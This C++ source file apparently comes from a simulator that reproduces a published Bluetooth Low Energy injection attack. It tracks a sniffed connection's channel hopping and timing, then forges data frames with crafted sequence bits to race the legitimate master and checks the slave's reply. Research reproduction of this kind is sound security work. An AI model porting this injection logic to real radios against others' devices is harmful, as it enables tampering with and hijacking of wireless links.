#include "core/session.hpp"

#include <algorithm>
#include <cmath>

#include "common/log.hpp"
#include "core/forge.hpp"
#include "phy/frame.hpp"

namespace injectable {

using ble::Duration;
using ble::TimePoint;
using namespace ble;  // NOLINT: time literals

namespace {
/// Longest data frame we expect on the link (payload 27 + MIC headroom).
constexpr Duration kMaxFrameAir = (1 + 4 + 2 + 27 + 4 + 3) * 8_us;
constexpr Duration kRxGuard = 40_us;
/// The observe window closes this long before the next predicted window so
/// the radio is free to retune.
constexpr Duration kEventTailGuard = 700_us;
}  // namespace

AttackSession::AttackSession(AttackerRadio& radio, SniffedConnection target, Params params)
    : radio_(radio), attack_params_(params), target_(std::move(target)) {
    params_ = target_.params;
    // The paper's "easily adapted to the second algorithm": CSA#2 is a pure
    // function of the (sniffed) access address, so the attacker follows it
    // just as deterministically as CSA#1.
    if (params_.use_csa2) {
        selector_ = std::make_unique<link::Csa2>(params_.access_address,
                                                 params_.channel_map);
    } else {
        selector_ = std::make_unique<link::Csa1>(params_.hop_increment, params_.channel_map,
                                                 target_.from_connect_req
                                                     ? 0
                                                     : target_.recovered_unmapped_channel);
    }
}

AttackSession::~AttackSession() { stop(); }

void AttackSession::start() {
    running_ = true;
    radio_.rx_handler = [this](const sim::RxFrame& frame) { handle_rx(frame); };
    radio_.tx_handler = [this] { handle_tx_complete(); };

    anchor_ = target_.time_reference;
    if (target_.from_connect_req) {
        const Duration offset = kTransmitWindowDelayUncoded +
                                static_cast<Duration>(params_.win_offset) * kUnit1250us;
        predicted_anchor_ = target_.time_reference + radio_.sleep_clock().to_global(offset);
    } else {
        predicted_anchor_ =
            target_.time_reference + radio_.sleep_clock().to_global(params_.interval());
        event_counter_ = 1;  // relative counter; absolute value unknowable here
    }

    // The capture may be stale (the attacker synchronises whenever it
    // chooses, not necessarily at connection setup): fast-forward the
    // prediction and hopping state over the events that already elapsed. The
    // victims' residual drift over the gap is absorbed by the first observe
    // window's margin, after which the session re-anchors precisely.
    while (predicted_anchor_ + params_.interval() <
           radio_.now() + estimated_widening() + attack_params_.listen_margin) {
        // One skipped event: keep the CSA#1 chain and the counter in lockstep.
        selector_->channel_for_event(event_counter_);
        ++event_counter_;
        predicted_anchor_ += params_.interval();
    }
    schedule_event();
}

void AttackSession::stop() {
    running_ = false;
    alive_.renew();  // invalidates all pending callbacks
    if (timer_ != sim::kInvalidEvent) {
        radio_.scheduler().cancel(timer_);
        timer_ = sim::kInvalidEvent;
    }
    radio_.rx_handler = nullptr;
    radio_.tx_handler = nullptr;
}

Duration AttackSession::estimated_widening() const noexcept {
    return link::window_widening(params_.master_sca_ppm(),
                                 attack_params_.assumed_slave_sca_ppm, params_.interval());
}

void AttackSession::inject(InjectionRequest request) {
    attempts_ = 0;
    request_ = std::move(request);
}

void AttackSession::apply_pending_procedures(Duration& delay, bool& update_applied) {
    const Duration old_interval = params_.interval();
    update_applied = false;
    if (pending_update_ && pending_update_->instant == event_counter_) {
        const auto update = *pending_update_;
        params_.win_size = update.win_size;
        params_.win_offset = update.win_offset;
        params_.hop_interval = update.interval;
        params_.latency = update.latency;
        params_.timeout = update.timeout;
        pending_update_.reset();
        delay = old_interval + kTransmitWindowDelayUncoded +
                static_cast<Duration>(update.win_offset) * kUnit1250us;
        update_applied = true;
    } else {
        delay = params_.interval();
    }
    if (pending_map_ && pending_map_->instant == event_counter_) {
        params_.channel_map = pending_map_->map;
        selector_->set_channel_map(pending_map_->map);
        pending_map_.reset();
    }
}

void AttackSession::schedule_event() {
    if (!running_ || lost_) return;
    channel_ = selector_->channel_for_event(event_counter_);
    frames_this_event_ = 0;
    anchored_this_event_ = false;

    const bool can_inject = request_.has_value() && slave_bits_fresh_ &&
                            attempts_ < request_->max_attempts;
    mode_ = can_inject ? Mode::kInject : Mode::kObserve;
    if (mode_ == Mode::kInject) {
        begin_inject_event();
    } else {
        begin_observe_event();
    }
}

// --- observation ---

void AttackSession::begin_observe_event() {
    const Duration w = estimated_widening() + attack_params_.listen_margin;
    const TimePoint listen_from = predicted_anchor_ - w;
    const TimePoint close_at =
        predicted_anchor_ + std::max<Duration>(params_.interval() - kEventTailGuard, 2_ms);

    guarded_at(listen_from, [this] {
        if (running_ && mode_ == Mode::kObserve && !radio_.transmitting()) {
            radio_.listen(channel_);
        }
    });
    timer_ = guarded_at(close_at, [this] { close_observe_event(); });
}

void AttackSession::handle_rx(const sim::RxFrame& frame) {
    if (!running_ || lost_) return;
    const auto raw = phy::split_frame(frame.bytes);
    if (!raw || raw->access_address != params_.access_address) return;
    const bool crc_ok = raw->crc_ok(params_.crc_init);
    const auto pdu = link::DataPduView::parse(raw->pdu);

    if (mode_ == Mode::kInject) {
        if (!awaiting_response_) return;
        awaiting_response_ = false;
        radio_.stop_listening();
        observation_.slave_rsp_start = frame.start;
        if (pdu && crc_ok) {
            observation_.slave_sn = pdu->sn;
            observation_.slave_nesn = pdu->nesn;
        }
        if (timer_ != sim::kInvalidEvent) {
            radio_.scheduler().cancel(timer_);
            timer_ = sim::kInvalidEvent;
        }
        // The response is also a sniffed slave frame — scenario A's read
        // capture relies on it (fast stacks answer an injected ATT request
        // within the same connection event).
        if (on_packet) {
            SniffedPacket packet;
            packet.sender = SniffedPacket::Sender::kSlave;
            packet.crc_ok = crc_ok;
            packet.start = frame.start;
            packet.end = frame.end;
            packet.channel = frame.channel;
            packet.event_counter = event_counter_;
            if (pdu) packet.pdu = pdu->to_owned();
            on_packet(packet);
        }
        finish_attempt();
        return;
    }

    // Observe mode. Classification: the master's frame opens the event at
    // the predicted anchor (within widening + margin); everything else in
    // the event alternates after it. Pure arrival-order classification has
    // an absorbing failure mode — mistaking the slave's response for the
    // anchor shifts the prediction by a frame + T_IFS and the error then
    // self-perpetuates — so the anchor frame must match the timing model.
    bool is_master_frame;
    if (!anchored_this_event_) {
        const Duration offset = frame.start - predicted_anchor_;
        const Duration tolerance =
            estimated_widening() + attack_params_.listen_margin + microseconds(20);
        is_master_frame = offset >= -tolerance && offset <= tolerance;
    } else {
        is_master_frame = (frames_this_event_ % 2) == 0;
    }
    ++frames_this_event_;

    // A SniffedPacket owns its PDU, so it is only built for a listener.
    if (on_packet) {
        SniffedPacket packet;
        packet.sender =
            is_master_frame ? SniffedPacket::Sender::kMaster : SniffedPacket::Sender::kSlave;
        packet.crc_ok = crc_ok;
        packet.start = frame.start;
        packet.end = frame.end;
        packet.channel = frame.channel;
        packet.event_counter = event_counter_;
        if (pdu) packet.pdu = pdu->to_owned();
        on_packet(packet);
    }

    if (is_master_frame) {
        if (!anchored_this_event_) {
            // Only the event's first master frame is the anchor (later MD
            // frames must not shift the prediction base).
            anchor_ = frame.start;
            anchored_this_event_ = true;
        }
        missed_events_ = 0;
        if (pdu && crc_ok) {
            master_bits_ = {pdu->sn, pdu->nesn};
            if (pdu->is_control()) {
                if (const auto control = link::ControlPdu::parse(pdu->payload)) {
                    switch (control->opcode) {
                        case link::ControlOpcode::kConnectionUpdateInd:
                            if (auto upd = link::ConnectionUpdateInd::parse(*control)) {
                                if (attack_params_.apply_sniffed_updates) {
                                    pending_update_ = *upd;
                                }
                                if (on_update_sniffed) on_update_sniffed(*upd);
                            }
                            break;
                        case link::ControlOpcode::kChannelMapInd:
                            if (auto ind = link::ChannelMapInd::parse(*control)) {
                                if (attack_params_.apply_sniffed_updates) {
                                    pending_map_ = *ind;
                                }
                            }
                            break;
                        case link::ControlOpcode::kTerminateInd:
                            if (attack_params_.stop_on_terminate) declare_lost();
                            break;
                        case link::ControlOpcode::kClockAccuracyReq:
                        case link::ControlOpcode::kClockAccuracyRsp:
                            // §V-C: the master's SCA "can be extracted from
                            // ... LL_CLOCK_ACCURACY_REQ or _RSP" — refine the
                            // widening estimate when it floats by.
                            if (auto ca = link::ClockAccuracy::parse(*control)) {
                                params_.master_sca = ca->sca & 0x07;
                            }
                            break;
                        default:
                            break;
                    }
                }
            }
        }
    } else if (pdu && crc_ok) {
        slave_bits_ = {pdu->sn, pdu->nesn};
        slave_bits_fresh_ = true;
    }
}

void AttackSession::close_observe_event() {
    if (!running_ || lost_) return;
    timer_ = sim::kInvalidEvent;
    radio_.stop_listening();

    if (!anchored_this_event_) {
        ++missed_events_;
        slave_bits_fresh_ = false;
        if (missed_events_ > attack_params_.max_missed_events) {
            declare_lost();
            return;
        }
    } else {
        predicted_anchor_ = anchor_;
        // Freshness: a slave frame must have been seen *this* event.
        slave_bits_fresh_ = slave_bits_fresh_ && frames_this_event_ >= 2;
    }

    ++event_counter_;
    Duration delay = 0;
    bool update_applied = false;
    apply_pending_procedures(delay, update_applied);
    predicted_anchor_ += radio_.sleep_clock().to_global(delay);
    if (on_event_advanced) on_event_advanced(event_counter_);
    if (!running_) return;
    schedule_event();
}

// --- injection ---

void AttackSession::begin_inject_event() {
    const Duration w = link::window_widening(params_.master_sca_ppm(),
                                             attack_params_.assumed_slave_sca_ppm,
                                             params_.interval());
    // TX-chain latency: the frame leaves a little after the ideal point,
    // with an occasional firmware hiccup that can forfeit the race.
    const double jitter = std::abs(radio_.rng().normal(
        0.0, static_cast<double>(attack_params_.tx_latency_sd)));
    Duration latency =
        attack_params_.tx_latency_mean + static_cast<Duration>(std::llround(jitter));
    if (radio_.rng().chance(attack_params_.hiccup_prob)) {
        latency += static_cast<Duration>(
            radio_.rng().uniform(0.0, static_cast<double>(attack_params_.hiccup_max)));
    }
    TimePoint tx_at = predicted_anchor_ - w + latency;

    // Turnaround pressure: at small intervals the dongle sometimes has not
    // finished processing the previous exchange when the window opens; the
    // frame then leaves late, racing from behind the legitimate master.
    const double p_late =
        std::clamp(static_cast<double>(attack_params_.turnaround_time) /
                       static_cast<double>(params_.interval()),
                   0.0, 0.5);
    if (radio_.rng().chance(p_late)) {
        tx_at = predicted_anchor_ +
                static_cast<Duration>(radio_.rng().uniform(0.0, 100e3));
    }
    const auto [sn_a, nesn_a] = forged_sequence_bits(slave_bits_->first, slave_bits_->second);
    link::DataPduView pdu;
    pdu.llid = request_->llid;
    pdu.payload = request_->payload;
    pdu.sn = sn_a;
    pdu.nesn = nesn_a;
    // Framed now, into a pooled buffer, so the attempt sends exactly this
    // request even if inject() replaces it before the frame leaves.
    injection_frame_ = phy::make_air_frame(radio_.frame_buffer(), params_.access_address,
                                           pdu.header(), pdu.payload, params_.crc_init);

    slave_bits_fresh_ = false;  // consumed by this attempt
    ++attempts_;

    observation_ = InjectionObservation{};
    observation_.sn_a = sn_a;
    observation_.nesn_a = nesn_a;

    timer_ = guarded_at(tx_at, [this] {
        if (!running_ || lost_) return;
        timer_ = sim::kInvalidEvent;
        observation_.tx_start = radio_.now();
        observation_.tx_duration = injection_frame_.duration();
        radio_.transmit(channel_, std::move(injection_frame_));
    });
}

void AttackSession::handle_tx_complete() {
    if (!running_ || lost_ || mode_ != Mode::kInject) return;
    // Turn around and listen for the slave's response (Eq. 7 inputs).
    awaiting_response_ = true;
    radio_.listen(channel_);
    timer_ = guarded_at(radio_.now() + kTifs + kMaxFrameAir + kRxGuard, [this] {
        if (!awaiting_response_) return;
        if (radio_.receiving()) {
            timer_ = guarded_at(radio_.now() + kMaxFrameAir, [this] {
                if (!awaiting_response_) return;
                awaiting_response_ = false;
                radio_.stop_listening();
                finish_attempt();
            });
            return;
        }
        awaiting_response_ = false;
        radio_.stop_listening();
        finish_attempt();
    });
}

void AttackSession::finish_attempt() {
    const HeuristicVerdict verdict = evaluate_injection(observation_);

    AttemptReport report;
    report.attempt = attempts_;
    report.event_counter = event_counter_;
    report.channel = channel_;
    report.observation = observation_;
    report.verdict = verdict;
    last_attempt_ = report;
    if (on_attempt) on_attempt(report);

    // Model update: on success the slave re-anchored on *our* frame; on
    // failure the legitimate anchor is near the prediction (we could not see
    // it while transmitting). The next event is always an observation, which
    // re-anchors precisely.
    anchor_ = verdict.success() ? observation_.tx_start : predicted_anchor_;
    predicted_anchor_ = anchor_;

    const bool success = verdict.success();
    const bool exhausted = attempts_ >= request_->max_attempts;
    if (success || exhausted) {
        auto done = std::move(request_->done);
        request_.reset();
        if (done) done(success, attempts_);
        if (!running_) return;  // completion handler may have stopped us
    }

    ++event_counter_;
    Duration delay = 0;
    bool update_applied = false;
    apply_pending_procedures(delay, update_applied);
    predicted_anchor_ += radio_.sleep_clock().to_global(delay);
    if (on_event_advanced) on_event_advanced(event_counter_);
    if (!running_) return;  // the callback may have stopped the session
    schedule_event();
}

void AttackSession::declare_lost() {
    if (lost_) return;
    lost_ = true;
    radio_.stop_listening();
    if (timer_ != sim::kInvalidEvent) {
        radio_.scheduler().cancel(timer_);
        timer_ = sim::kInvalidEvent;
    }
    BLE_LOG_DEBUG("attack session: target connection lost");
    if (on_connection_lost) on_connection_lost();
}

}  // namespace injectable
